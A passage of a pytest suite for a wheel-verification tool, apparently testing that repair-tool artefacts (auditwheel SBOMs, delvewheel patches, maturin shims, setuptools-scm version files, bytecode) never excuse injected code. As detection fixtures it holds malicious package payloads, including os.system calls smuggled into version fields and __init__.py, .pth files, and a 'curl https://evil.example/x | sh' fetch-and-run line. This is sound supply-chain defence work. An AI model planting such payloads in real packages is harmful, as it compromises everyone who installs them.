        wrong = _set(honest, record, lambda d: d.replace(b"pkg\\tool.py,sha256=", b"pkg\\tool.py,sha256=A", 1))
        for i, members in enumerate((twice, wrong)):
            cmp = compare(members, f"r{i}")
            assert record in [d.path for d in cmp.differences], (path, i, cmp.differences)


# ---------------------------------------------------------------- repair tools' outputs

AUDITWHEEL_SBOM = json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.4",
                              "metadata": {"tools": [{"name": "auditwheel", "version": "6.4.2"}]}}).encode()


def _repaired(tmp_path, tag: str = "cp311-cp311-manylinux_2_17_x86_64"):
    """A rebuild (linux) and the published members of its repaired wheel, the compiled module's bytes aside."""
    reb = wheel(tmp_path / "r-repaired.whl", members=_add(_plat(BASE, "cp311-cp311-linux_x86_64"), SO))
    return reb, _add(_plat(BASE, tag), (SO[0], b"\x7fELF-published", 0o755))


@pytest.mark.twin("auditwheel-sbom")
def test_auditwheels_sbom_never_excuses_another_file_beside_it_or_at_another_path(tmp_path):
    reb, repaired = _repaired(tmp_path)
    sbom = ("pkg-1.0.dist-info/sboms/auditwheel.cdx.json", AUDITWHEEL_SBOM, 0o644)
    honest = _add(repaired, sbom)
    for path, compare in (("rebuilt", lambda p: compare_wheels(p, reb, binary=True)),
                          ("other platform", lambda p: compare_other_platform(p, reb))):
        cmp = compare(wheel(tmp_path / f"honest-{path}.whl", members=honest))
        assert cmp.tool_steps == ["auditwheel 6.4.2 SBOM (sboms/auditwheel.cdx.json)"] and not cmp.differences, path
        assert cmp.judged_by.get(sbom[0]) == "auditwheel-sbom"
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(wheel(tmp_path / f"p{i}-{path}.whl", members=members))
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)
        shapes = [("pkg-1.0.dist-info/sboms/auditwheel.cdx.json.pth", AUDITWHEEL_SBOM),
                  ("pkg/sboms/auditwheel.cdx.json", AUDITWHEEL_SBOM),
                  ("pkg-1.0.dist-info/sboms/auditwheel.cdx.py", AUDITWHEEL_SBOM)]
        for i, (name, data) in enumerate(shapes):
            cmp = compare(wheel(tmp_path / f"s{i}-{path}.whl", members=_add(honest, (name, data, 0o644))))
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        # the same path holding no auditwheel SBOM (no CycloneDX document, or code) is not its output
        odd = compare(wheel(tmp_path / f"odd-{path}.whl", members=_set(honest, sbom[0], EVIL)))
        assert sbom[0] in [d.path for d in odd.differences], odd.differences


@pytest.mark.twin("delocate-generator")
def test_delocates_generator_line_never_excuses_another_wheel_field_or_code_beside_it(tmp_path):
    mac_so = ("pkg/_speed.cpython-311-darwin.so", b"\xcf\xfa\xed\xfe", 0o755)
    reb = wheel(tmp_path / "r.whl", members=_add(_plat(BASE, "cp311-cp311-linux_x86_64"), SO))
    wheel_file = "pkg-1.0.dist-info/WHEEL"
    honest = _add(_set(_plat(BASE, "cp311-cp311-macosx_11_0_arm64"), wheel_file,
                       lambda d: d + b"Generator: delocate 0.13.0\n"), mac_so)
    cmp = compare_other_platform(wheel(tmp_path / "mac.whl", members=honest), reb)
    assert cmp.tool_steps == ["delocate 0.13.0 (WHEEL Generator line)"] and not cmp.differences, cmp.differences
    for i, (label, members, name) in enumerate(_payloads(honest)):
        cmp = compare_other_platform(wheel(tmp_path / f"p{i}.whl", members=members), reb)
        assert (name, "code") in coded(cmp), (label, cmp.differences)
    # where the files install (Root-Is-Purelib) beside delocate's line, or in its place
    for i, evil in enumerate((lambda d: d.replace(b"Root-Is-Purelib: false", b"Root-Is-Purelib: true"),
                              lambda d: d.replace(b"Generator: delocate 0.13.0\n", b"Root-Is-Purelib: true\n"),
                              lambda d: d.replace(b"Generator: delocate 0.13.0", b"Generator: delocate 0.13.0\n"
                                                                                 b"Root-Is-Purelib: true"))):
        cmp = compare_other_platform(wheel(tmp_path / f"w{i}.whl", members=_set(honest, wheel_file, evil)), reb)
        assert (wheel_file, "code") in coded(cmp), (i, cmp.differences)


@pytest.mark.twin("grafted-library")
def test_a_grafted_library_never_excuses_code_outside_the_libs_directory_nor_a_graft_in_a_pure_wheel(tmp_path):
    reb, repaired = _repaired(tmp_path)
    lib = ("pkg.libs/libgeos-1a2b3c4d.so.3.13", b"\x7fELF-grafted", 0o755)
    honest = _add(repaired, lib)
    cmp = compare_wheels(wheel(tmp_path / "honest.whl", members=honest), reb, binary=True)
    assert not cmp.differences and cmp.judged_by.get(lib[0]) == "grafted-library", cmp.differences
    assert "auditwheel or delvewheel grafted libraries" in cmp.tool_steps
    for i, (label, members, name) in enumerate(_payloads(honest)):
        cmp = compare_wheels(wheel(tmp_path / f"p{i}.whl", members=members), reb, binary=True)
        assert (name, "code") in coded(cmp), (label, cmp.differences)
    shapes = [("pkg_libs/evil.py", EVIL), ("pkg.libsx/evil.pth", PTH[1]), ("zz.libs.pth", PTH[1])]
    for i, (name, data) in enumerate(shapes):
        cmp = compare_wheels(wheel(tmp_path / f"s{i}.whl", members=_add(honest, (name, data, 0o644))), reb, binary=True)
        assert (name, "code") in coded(cmp), (name, cmp.differences)
    # judged as a pure wheel (no compiled member rebuilt), a grafted library is no repair tool's
    pure = wheel(tmp_path / "pure-r.whl")
    cmp = compare_wheels(wheel(tmp_path / "pure.whl", members=_add(BASE, lib)), pure)
    assert (lib[0], "code") in coded(cmp), cmp.differences


NH3_INIT = b'from .nh3 import *\n\n__doc__ = nh3.__doc__\nif hasattr(nh3, "__all__"):\n    __all__ = nh3.__all__\n'


@pytest.mark.twin("maturin-module-shim")
def test_maturins_module_shim_never_excuses_other_code_nor_a_shim_of_no_extension(tmp_path):
    """nh3 0.3.6: maturin writes MODULE/__init__.py re-exporting the extension, __init__.pyi from the sdist's stub and
    an empty py.typed (the sources check, nothing rebuilt)."""
    sd = tmp_path / "sd" / "nh3-0.3.6"
    sd.mkdir(parents=True)
    (sd / "nh3.pyi").write_bytes(b"def clean(html: str) -> str: ...\n")
    generator = b"Wheel-Version: 1.0\nGenerator: maturin (1.9.4)\nRoot-Is-Purelib: false\n"
    honest = [("nh3/__init__.py", NH3_INIT, 0o644), ("nh3/__init__.pyi", (sd / "nh3.pyi").read_bytes(), 0o644),
              ("nh3/py.typed", b"", 0o644), ("nh3/nh3.cpython-312-darwin.so", b"\xcf\xfa", 0o755),
              ("nh3-0.3.6.dist-info/WHEEL", generator, 0o644), ("nh3-0.3.6.dist-info/RECORD", BASE[-1][1], 0o644)]
    cmp = cross_check_sources(wheel(tmp_path / "nh3.whl", members=honest), sd)
    assert not cmp.differences and cmp.tool_steps == ["maturin 1.9.4 module shim"], cmp.differences
    assert cmp.judged_by.get("nh3/__init__.py") == "maturin-module-shim"
    crlf_shim = NH3_INIT.replace(b"\n", b"\r\n")
    payloads = [
        ("nh3/__init__.py", _set(honest, "nh3/__init__.py", NH3_INIT + b"import os\nos.system('id')\n")),
        ("nh3/__init__.py", _set(honest, "nh3/__init__.py", crlf_shim + b"import os\r\n")),
        ("nh3/__init__.py", _set(honest, "nh3/__init__.py", NH3_INIT.replace(b"from .nh3", b"from .evil"))),
        # the shim of a module the wheel holds no extension for, or below a package, or in a wheel maturin did not make
        ("evil/__init__.py", _add(honest, ("evil/__init__.py", NH3_INIT.replace(b"nh3", b"evil"), 0o644))),
        ("nh3/sub/__init__.py", _add(honest, ("nh3/sub/__init__.py", NH3_INIT, 0o644))),
        ("nh3/__init__.py", _set(honest, "nh3-0.3.6.dist-info/WHEEL", generator.replace(b"maturin (1.9.4)",
                                                                                      b"setuptools (80.0.0)"))),
        (PTH[0], _add(honest, PTH)), ("nh3/evil.py", _add(honest, ("nh3/evil.py", EVIL, 0o644))),
        ("nh3-0.3.6.data/scripts/evil", _add(honest, ("nh3-0.3.6.data/scripts/evil", b"#!/bin/sh\nid\n", 0o755))),
    ]
    for i, (name, members) in enumerate(payloads):
        cmp = cross_check_sources(wheel(tmp_path / f"e{i}.whl", members=members), sd)
        assert (name, "code") in coded(cmp), (name, cmp.differences)
    # py.typed with content, a stub that is not the sdist's: not the shim either
    for i, (name, data) in enumerate((("nh3/py.typed", b"import os\n"), ("nh3/__init__.pyi", b"def evil(): ...\n"))):
        cmp = cross_check_sources(wheel(tmp_path / f"s{i}.whl", members=_set(honest, name, data)), sd)
        assert name in [d.path for d in cmp.differences], (name, cmp.differences)


HEADERS = [("pkg/includes/zlib/zlib.h", b"#define ZLIB 1\n", 0o644), ("pkg/includes/zlib/__init__.py", b"", 0o644)]


@pytest.mark.twin("bundled-headers")
def test_bundled_headers_never_excuse_code_in_their_directory_on_every_path(tmp_path):
    """lxml's static build ships libxml2/zlib headers under lxml/includes/ with empty __init__.py files: listed as not
    verified, against the rebuild, another platform's and in the sources check; code there is never a header."""
    reb, repaired = _repaired(tmp_path)
    honest = _add(repaired, *HEADERS)
    src = tmp_path / "src"
    (src / "pkg").mkdir(parents=True)
    for n, d, _ in BASE[:2]:
        (src / n).write_bytes(d)
    compares = {"rebuilt": lambda p: compare_wheels(p, reb, binary=True),
                "other platform": lambda p: compare_other_platform(p, reb),
                "sources": lambda p: cross_check_sources(p, src)}
    for path, compare in compares.items():
        cmp = compare(wheel(tmp_path / f"honest-{path}.whl", members=honest))
        assert not cmp.differences, (path, cmp.differences)
        assert {d.path for d in cmp.compiled_differences if d.cause == "bundled-headers"} == {n for n, _, _ in HEADERS}
        payloads = [("pkg/includes/zlib/__init__.py", _set(honest, "pkg/includes/zlib/__init__.py", EVIL)),
                    ("pkg/includes/zlib/evil.py", _add(honest, ("pkg/includes/zlib/evil.py", EVIL, 0o644))),
                    ("pkg/includes/zlib/evil.pth", _add(honest, ("pkg/includes/zlib/evil.pth", PTH[1], 0o644))),
                    ("pkg/includes/evil/__init__.py", _add(honest, ("pkg/includes/evil/__init__.py", b"", 0o644),
                                                            ("pkg/includes/evil/run.py", EVIL, 0o644))),
                    ("pkg/includes/evil/run.py", _add(honest, ("pkg/includes/evil/__init__.py", b"", 0o644),
                                                      ("pkg/includes/evil/run.py", EVIL, 0o644)))]
        payloads += [(name, members) for _, members, name in _payloads(honest)
                     if path != "sources" or name.startswith(("pkg/evil", "zz_", "pkg-1.0.data"))]
        for i, (name, members) in enumerate(payloads):
            cmp = compare(wheel(tmp_path / f"e{i}-{path}.whl", members=members))
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
    # a pure wheel's headers are no native library's
    cmp = compare_wheels(wheel(tmp_path / "pure.whl", members=_add(BASE, *HEADERS)), wheel(tmp_path / "pure-r.whl"))
    assert "pkg/includes/zlib/__init__.py" in [d.path for d in cmp.differences], cmp.differences


SCM = (b"# file generated by setuptools-scm\n# don't change, don't track in version control\n"
       b"__version__ = version = '1.0'\n__commit_id__ = commit_id = {}\n")


@pytest.mark.twin("scm-commit-id")
def test_the_publishers_commit_id_never_excuses_another_line_of_the_version_file(tmp_path):
    version = "pkg/_version.py"
    reb_members = _add(BASE, (version, SCM.replace(b"{}", b"None"), 0o644))
    honest = _set(reb_members, version, SCM.replace(b"{}", b"'g1b694980d'"))
    for path in ("rebuilt", "other platform"):
        reb = wheel(tmp_path / f"r-{path}.whl", members=reb_members)

        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=members), reb)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(members)), reb)

        cmp = compare(honest, f"honest-{path}")
        assert cmp.judged_by.get(version) == "scm-commit-id" and not cmp.differences, (path, cmp.differences)
        evil = [SCM.replace(b"{}", b"__import__('os').system('id')"),
                SCM.replace(b"{}", b"'g1b694980d'").replace(b"'1.0'", b"'1.0.post1'"),
                SCM.replace(b"{}", b"'g1b694980d'") + b"import os\nos.system('id')\n",
                SCM.replace(b"{}", b"'g1b694980d'; import os; os.system('id')"),
                SCM.replace(b"{}", b"'g1b694980d'").replace(b"# don't change", b"import os  # don't change")]
        for i, data in enumerate(evil):
            cmp = compare(_set(honest, version, data), f"e{i}-{path}")
            assert (version, "code") in coded(cmp), (path, data, cmp.differences)
        for i, (label, members, name) in enumerate(_payloads(honest)):
            cmp = compare(members, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)


# The shape delvewheel inserts into a Windows wheel's package __init__.py (its v2 layout, Python >= 3.10).
DELVE = (b"# start delvewheel patch\ndef _delvewheel_patch_1_11_2():\n    import os\n"
         b"    if os.path.isdir(libs_dir := os.path.abspath(os.path.join(os.path.dirname(__file__), os.pardir, "
         b"'pkg.libs'))):\n        os.add_dll_directory(libs_dir)\n\n\n_delvewheel_patch_1_11_2()\n"
         b"del _delvewheel_patch_1_11_2\n# end delvewheel patch\n")
ADD_DLL = b"        os.add_dll_directory(libs_dir)\n"
DELVE_PAYLOADS = [  # each inside the block, or beside it
    DELVE.replace(ADD_DLL, ADD_DLL + b"        os.system('curl -s https://evil.example/x | sh')\n"),
    # the grafted directory (whose files are not verified) made importable: any module there shadows the stdlib's
    DELVE.replace(b"    import os\n", b"    import os\n    import sys\n").replace(
        ADD_DLL, ADD_DLL + b"        sys.path[:0] = (libs_dir,)\n"),
    DELVE.replace(b"    import os\n", b"    import os\n    import sys\n").replace(
        ADD_DLL, ADD_DLL + b"        sys.path = (libs_dir,) + tuple(sys.path)\n"),
    DELVE.replace(b"    import os\n", b"    import os\n    import sys\n").replace(
        ADD_DLL, ADD_DLL + b"        for sys.path[0] in (libs_dir,):\n            pass\n"),
    DELVE.replace(b"    import os\n", b"    import os\n    import subprocess\n"),
    DELVE.replace(b"'pkg.libs'", b"'other.libs'"),
    DELVE + b"\n" + DELVE,
    DELVE + b"import os\nos.system('id')\n",
]


@pytest.mark.twin("delvewheel-patch")
def test_delvewheels_patch_never_excuses_other_code_in_or_beside_its_block_on_every_path(tmp_path):
    """shapely's Windows wheels: delvewheel grafts pkg.libs/*.dll and patches pkg/__init__.py (or writes an
    __init__.py of only its block): against the rebuild's file, the sdist's file, or none."""
    doc = b'"""The package."""\n'
    dll = ("pkg.libs/geos_c-abc123.dll", b"MZ\x90", 0o644)

    def patched(block: bytes) -> bytes:
        return (doc + b"\n\n" + block + b"\n" + b"x = 1\n").replace(b"\n", b"\r\n")  # a Windows checkout

    init = "pkg/__init__.py"
    reb = wheel(tmp_path / "r.whl", members=_add(_set(BASE, init, doc + b"x = 1\n"), SO))
    src = tmp_path / "src"
    (src / "pkg").mkdir(parents=True)
    (src / "pkg" / "__init__.py").write_bytes(doc + b"x = 1\n")
    (src / "pkg" / "tool.py").write_bytes(dict((n, d) for n, d, _ in BASE)["pkg/tool.py"])
    (src / "pkg" / "sub").mkdir()
    (src / "pkg" / "sub" / "mod.py").write_bytes(b"y = 2\n")
    (src / "pkg" / "sub" / "sub.py").write_bytes(b"y = 3\n")
    reb_sub = wheel(tmp_path / "r-sub.whl", members=_add(_set(BASE, init, doc + b"x = 1\n"), SO,
                                                         ("pkg/sub/mod.py", b"y = 2\n", 0o644)))
    compares = {"other platform": lambda p: compare_other_platform(p, reb_sub),
                "sources": lambda p: cross_check_sources(p, src)}
    for path, compare in compares.items():
        # the patched __init__.py, and an __init__.py delvewheel wrote where there was none (only its block)
        honest = _other_platform(_add(_set(BASE, init, patched(DELVE)), dll, ("pkg/sub/mod.py", b"y = 2\n", 0o644),
                                      ("pkg/sub/__init__.py", DELVE, 0o644)))
        cmp = compare(wheel(tmp_path / f"honest-{path}.whl", members=honest))
        assert not cmp.differences, (path, cmp.differences)
        assert cmp.judged_by.get(init) == cmp.judged_by.get("pkg/sub/__init__.py") == "delvewheel-patch", cmp.judged_by
        for i, block in enumerate(DELVE_PAYLOADS):
            cmp = compare(wheel(tmp_path / f"e{i}-{path}.whl", members=_set(honest, init, patched(block))))
            assert (init, "code") in coded(cmp), (path, block, cmp.differences)
            cmp = compare(wheel(tmp_path / f"n{i}-{path}.whl", members=_set(honest, "pkg/sub/__init__.py", block)))
            assert ("pkg/sub/__init__.py", "code") in coded(cmp), (path, block, cmp.differences)
        changed = _set(honest, init, patched(DELVE).replace(b"x = 1", b"x = __import__('os').system('id')"))
        cmp = compare(wheel(tmp_path / f"c-{path}.whl", members=changed))
        assert (init, "code") in coded(cmp), (path, cmp.differences)
        for i, (name, members) in enumerate([(PTH[0], _add(honest, PTH)), (MODULE[0], _add(honest, MODULE))]):
            cmp = compare(wheel(tmp_path / f"p{i}-{path}.whl", members=members))
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
    # against the rebuild's file, on the rebuilt path too (a Windows wheel compared byte for byte here: binary)
    honest = _add(_set(_plat(BASE, "cp311-cp311-linux_x86_64"), init, patched(DELVE)), SO, dll)
    cmp = compare_wheels(wheel(tmp_path / "rb.whl", members=honest), reb, binary=True)
    assert ("pkg/__init__.py", "code") in coded(cmp)  # delvewheel patches Windows wheels only: no rule here


@pytest.mark.twin("delvewheel-record")
def test_delvewheels_record_never_excuses_other_lines_nor_a_record_without_a_graft(tmp_path):
    dll = ("pkg.libs/geos_c-abc123.dll", b"MZ\x90", 0o644)
    record = ("pkg-1.0.dist-info/DELVEWHEEL", b"Version: 1.11.2\nArguments: ['delvewheel', 'repair', 'x.whl']\n", 0o644)
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, SO))
    honest = _other_platform(_add(BASE, dll, record))
    cmp = compare_other_platform(wheel(tmp_path / "honest.whl", members=honest), reb)
    assert not cmp.differences and cmp.judged_by.get(record[0]) == "delvewheel-record", cmp.differences
    assert "delvewheel 1.11.2 record (DELVEWHEEL)" in cmp.tool_steps
    payloads = [(record[0], _set(honest, record[0], record[1] + b"import os\n")),
                (record[0], _set(honest, record[0], b"Version: 1.11.2; import os\n")),
                (record[0], _set(honest, record[0], record[1].replace(b"Arguments: [", b"Requires-Dist: evil\n["))),
                (record[0], [m for m in honest if m[0] != dll[0]]),  # nothing grafted: no delvewheel record
                ("pkg-1.0.dist-info/DELVEWHEEL.pth", _add(honest, ("pkg-1.0.dist-info/DELVEWHEEL.pth", record[1], 0o644))),
                ("pkg/DELVEWHEEL", _add(honest, ("pkg/DELVEWHEEL", record[1], 0o644)))]
    payloads += [(name, members) for _, members, name in _payloads(honest)]
    for i, (name, members) in enumerate(payloads):
        cmp = compare_other_platform(wheel(tmp_path / f"e{i}.whl", members=members), reb)
        assert (name, "code") in coded(cmp), (name, cmp.differences)
    # the same on the rebuilt path (published only, with a graft)
    reb2, repaired = _repaired(tmp_path)
    cmp = compare_wheels(wheel(tmp_path / "rb.whl", members=_add(repaired, dll, record)), reb2, binary=True)
    assert not cmp.differences and cmp.judged_by.get(record[0]) == "delvewheel-record", cmp.differences
    cmp = compare_wheels(wheel(tmp_path / "rb2.whl", members=_add(repaired, dll, record, PTH)), reb2, binary=True)
    assert (PTH[0], "code") in coded(cmp)


OLD_VERSION = (b"# coding: utf-8\n# file generated by setuptools_scm\n# don't change, don't track in version control\n"
               b"__version__ = version = '1.0'\n__version_tuple__ = version_tuple = (1, 0)\n")
NEW_VERSION = (b"# file generated by setuptools-scm\n# don't change, don't track in version control\n\n"
               b"__all__ = ['__version__', 'version']\n\n__version__ = version = '1.0'\n"
               b"__version_tuple__ = version_tuple = (1, 0)\n")


@pytest.mark.twin("sdist-version-file")
def test_the_sdists_own_version_file_never_excuses_code_in_it_even_when_the_sdist_holds_that_code(tmp_path):
    """tabulate 0.9.0: sdist and wheel hold setuptools_scm 2022's version.py; the rebuild's newer plugin writes
    another template. The rebuild writes its own file over the sdist's: code in the sdist's copy is not what the
    sdist builds into, so it is no version file of a plugin, even byte for byte the sdist's."""
    version = "pkg/version.py"
    src = tmp_path / "sdist"
    (src / "pkg").mkdir(parents=True)
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, (version, NEW_VERSION, 0o644)))
    honest = _add(BASE, (version, OLD_VERSION, 0o644))

    def compare(members, sdist_copy: bytes, tag: str):
        (src / "pkg" / "version.py").write_bytes(sdist_copy)
        return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=members), reb, sources=extension_sources(src))

    cmp = compare(honest, OLD_VERSION, "honest")
    assert cmp.judged_by.get(version) == "sdist-version-file" and not cmp.differences, cmp.differences
    code = OLD_VERSION + b"import os\nos.system('id')\n"
    for i, (published, sdist_copy) in enumerate([
            (code, code), (code, OLD_VERSION),
            (OLD_VERSION.replace(b"'1.0'", b"__import__('os').system('id') or '1.0'"),
             OLD_VERSION.replace(b"'1.0'", b"__import__('os').system('id') or '1.0'")),
            (b"import os\n" + OLD_VERSION, b"import os\n" + OLD_VERSION),
            (OLD_VERSION.replace(b"'1.0'", b"'1.0.post1'"), OLD_VERSION.replace(b"'1.0'", b"'1.0.post1'"))]):
        cmp = compare(_set(honest, version, published), sdist_copy, f"e{i}")
        assert (version, "code") in coded(cmp), (published, cmp.differences)
    for i, (label, members, name) in enumerate(_payloads(honest)):
        cmp = compare(members, OLD_VERSION, f"p{i}")
        assert (name, "code") in coded(cmp), (label, cmp.differences)


@pytest.mark.twin("retag")
def test_a_repair_tools_retag_never_excuses_another_wheel_field_or_code_beside_it(tmp_path):
    wheel_file = "pkg-1.0.dist-info/WHEEL"
    reb, repaired = _repaired(tmp_path)
    other = wheel(tmp_path / "r-other.whl", members=_add(BASE, SO))
    for path in ("rebuilt", "other platform"):
        def compare(members, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=members), reb, binary=True)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=members), other)

        honest = repaired if path == "rebuilt" else _other_platform(BASE)
        cmp = compare(honest, f"honest-{path}")
        assert not cmp.differences and ("retag", "packaging") in [
            (d.cause, d.cls) for d in cmp.compiled_differences if d.path == wheel_file], (path, cmp.differences)
        purelib = b"Root-Is-Purelib: false" if path == "rebuilt" else b"Root-Is-Purelib: true"
        flipped = b"Root-Is-Purelib: true" if path == "rebuilt" else b"Root-Is-Purelib: false"
        payloads = [(wheel_file, _set(honest, wheel_file, lambda d: d.replace(purelib, flipped))),
                    (wheel_file, _set(honest, wheel_file, lambda d: d.replace(purelib + b"\n", b""))),
                    (wheel_file, _set(honest, wheel_file, lambda d: d + flipped + b"\n"))]
        payloads += [(name, members) for _, members, name in _payloads(honest)]
        for i, (name, members) in enumerate(payloads):
            cmp = compare(members, f"e{i}-{path}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
    # rebuilt here, only the platform part of a tag is the repair tool's: another interpreter's tag is no retag
    cp312 = _add(_plat(BASE, "cp312-cp312-manylinux_2_17_x86_64"), (SO[0], b"\x7fELF-published", 0o755))
    cmp = compare_wheels(wheel(tmp_path / "cp312.whl", members=cp312), reb, binary=True)
    assert wheel_file in [d.path for d in cmp.differences], cmp.differences


def _license_sdist(tmp_path) -> SdistSources:
    root = tmp_path / "sdist"
    (root / "tools").mkdir(parents=True)
    (root / "LICENSE.txt").write_bytes(b"Copyright (c) the pkg developers.\n")
    (root / "LICENSES_bundled.txt").write_bytes(b"Name: lapack-lite\nLicense: BSD-3-Clause\n")
    (root / "tools" / "evil.py").write_bytes(EVIL)
    return SdistSources({"tool"}, files=SdistFiles(root, _sdist_files(root)))


@pytest.mark.twin("appended-license")
def test_licenses_appended_from_the_sdist_never_excuse_other_text_another_field_or_code_beside(tmp_path):
    """numpy's release step appends the sdist's LICENSES_bundled.txt to LICENSE.txt (and METADATA's License reads
    that file): every byte the sdist's. Text from elsewhere, another METADATA field, or code beside: differences."""
    sources = _license_sdist(tmp_path)
    lic = (sources.files.root / "LICENSE.txt").read_bytes()
    appended = lic + b"\n----\n\n" + (sources.files.root / "LICENSES_bundled.txt").read_bytes()
    meta = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nLicense: %s\n"
    lic_path, meta_path = "pkg-1.0.dist-info/LICENSE.txt", "pkg-1.0.dist-info/METADATA"

    def members(text: bytes) -> list:
        field = text.rstrip(b"\n").replace(b"\n", b"\n        ")
        return _add(_set(BASE, meta_path, meta % field), (lic_path, text, 0o644))

    reb = wheel(tmp_path / "r.whl", members=members(lic))
    reb_bin = wheel(tmp_path / "r-bin.whl", members=_add(members(lic), SO))
    for path in ("rebuilt", "other platform"):
        def compare(ms, tag: str):
            if path == "rebuilt":
                return compare_wheels(wheel(tmp_path / f"{tag}.whl", members=_add(ms, SO)), reb_bin, binary=True,
                                      sources=sources)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(ms)), reb,
                                          sources=sources)

        honest = members(appended)
        cmp = compare(honest, f"honest-{path}")
        assert not cmp.differences and cmp.judged_by.get(lic_path) == "appended-license", (path, cmp.differences)
        assert any("METADATA License" in s for s in cmp.tool_steps), cmp.tool_steps
        payloads = [(meta_path, _set(honest, meta_path, lambda d: d.replace(b"Version: 1.0\n", b"Version: 1.0\n"
                                                                           b"Requires-Dist: evil-helper>=1\n"))),
                    (meta_path, _set(honest, meta_path, lambda d: d.replace(b"Version: 1.0\n", b"Version: 1.0.post1\n")))]
        payloads += [(name, ms) for _, ms, name in _payloads(honest)]
        for i, (name, ms) in enumerate(payloads):
            cmp = compare(ms, f"e{i}-{path}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        # appended text the sdist lacks is not its (at most the bundled libraries' licenses, said not verified);
        # text put before the license differs; the sdist's code appended to a module is code
        cmp = compare(members(appended + b"\nlibfoo: MIT\n"), f"t-{path}")
        assert cmp.judged_by.get(lic_path) != "appended-license", (path, cmp.judged_by)
        cmp = compare(members(b"Extra first.\n" + appended), f"f-{path}")
        assert lic_path in [d.path for d in cmp.differences], (path, cmp.differences)
        tool = dict((n, d) for n, d, _ in BASE)["pkg/tool.py"]
        cmp = compare(_set(honest, "pkg/tool.py", tool + b"\n----\n\n" + EVIL), f"m-{path}")
        assert ("pkg/tool.py", "code") in coded(cmp), (path, cmp.differences)


def _pyc(flags: int = 0) -> bytes:
    return importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + bytes(8) + b"\xe3code"


@pytest.mark.twin("bytecode")
def test_bytecode_beside_its_source_never_excuses_bytecode_that_runs_without_its_source(tmp_path):
    """numpy's build left a timestamp-based __pycache__/M.cpython-3X.pyc beside M.py (stale once installed: the source
    is written anew). A .pyc of no module of the wheel, a hash-based one, one Python imports without a source, or in
    a wheel judged pure, is code."""
    (tmp_path / "src").mkdir()
    sources = extension_sources(tmp_path / "src")  # the files rules that read the sdist are given
    pyc = "pkg/__pycache__/tool.cpython-310.pyc"
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, SO))
    for path in ("rebuilt", "other platform"):
        def compare(ms, tag: str, binary: bool = True):
            if path == "rebuilt":
                pub = wheel(tmp_path / f"{tag}.whl", members=_add(ms, SO) if binary else ms)
                return compare_wheels(pub, reb if binary else wheel(tmp_path / "r-pure.whl"), binary=binary,
                                      sources=sources)
            return compare_other_platform(wheel(tmp_path / f"{tag}.whl", members=_other_platform(ms)), reb,
                                          sources=sources)

        honest = _add(BASE, (pyc, _pyc(), 0o644))
        cmp = compare(honest, f"honest-{path}")
        assert not cmp.differences and ("bytecode", "code") in [
            (d.cause, d.cls) for d in cmp.compiled_differences if d.path == pyc], (path, cmp.differences)
        shapes = [("pkg/__pycache__/evil.cpython-310.pyc", _pyc()), ("pkg/evil.pyc", _pyc()), ("pkg/tool.pyc", _pyc()),
                  ("__pycache__/sitecustomize.cpython-310.pyc", _pyc()), ("pkg/__pycache__/tool.cpython-310.pyc.pth",
                                                                          PTH[1])]
        for i, (name, data) in enumerate(shapes):
            cmp = compare(_add(honest, (name, data, 0o644)), f"s{i}-{path}")
            assert (name, "code") in coded(cmp), (path, name, cmp.differences)
        for flags in (1, 3):  # hash-based (PEP 552), checked or not: no timestamp keeps it stale
            cmp = compare(_set(honest, pyc, _pyc(flags)), f"h{flags}-{path}")
            assert (pyc, "code") in coded(cmp), (path, flags, cmp.differences)
        for i, (label, ms, name) in enumerate(_payloads(honest)):
            cmp = compare(ms, f"p{i}-{path}")
            assert (name, "code") in coded(cmp), (path, label, cmp.differences)
    cmp = compare_wheels(wheel(tmp_path / "pure.whl", members=_add(BASE, (pyc, _pyc(), 0o644))),
                         wheel(tmp_path / "r-pure.whl"), sources=sources)
    assert (pyc, "code") in coded(cmp), cmp.differences


def _extension(name: str, init: bool = True) -> tuple[str, bytes, int]:
    stem = name.rsplit("/", 1)[-1].split(".", 1)[0]
    return name, b"\x7fELF\x00" + (f"PyInit_{stem}".encode() if init else b"lib_init") + b"\x00", 0o755


@pytest.mark.twin("optional-extension")
def test_an_optional_extension_not_built_here_is_never_one_whose_source_the_sdist_lacks(tmp_path):
    """pillow's _webp is built only where libwebp is; google-crc32c's rebuild is pure without libcrc32c. Listed as
    not reproduced only with its C, C++ or Cython source in the sdist; any other extension, or code beside, differs."""
    webp = _extension("pkg/_webp.cpython-311-x86_64-linux-gnu.so")
    reb = wheel(tmp_path / "r.whl", members=_add(BASE, SO))
    sources = SdistSources({"_speed", "_webp", "tool", "__init__"}, {"_speed", "_webp"})
    honest = _add(BASE, (SO[0], b"\x7fELF-published", 0o755), webp)
    cmp = compare_wheels(wheel(tmp_path / "honest.whl", members=honest), reb, binary=True, sources=sources)
    assert not cmp.differences and "optional extension not built in the sandbox" in [
        d.cause for d in cmp.compiled_differences if d.path == webp[0]], cmp.differences
    extensions = [_extension("pkg/_evil.cpython-311-x86_64-linux-gnu.so"),
                  _extension("pkg/tool.cpython-311-x86_64-linux-gnu.so"),  # a .py's name: imported instead of it
                  _extension("pkg/__init__.cpython-311-x86_64-linux-gnu.so")]
    for i, ext in enumerate(extensions):
        cmp = compare_wheels(wheel(tmp_path / f"e{i}.whl", members=_add(honest, ext)), reb, binary=True,
                             sources=sources)
        assert (ext[0], "code") in coded(cmp), (ext[0], cmp.differences)
    for i, (label, ms, name) in enumerate(_payloads(honest)):
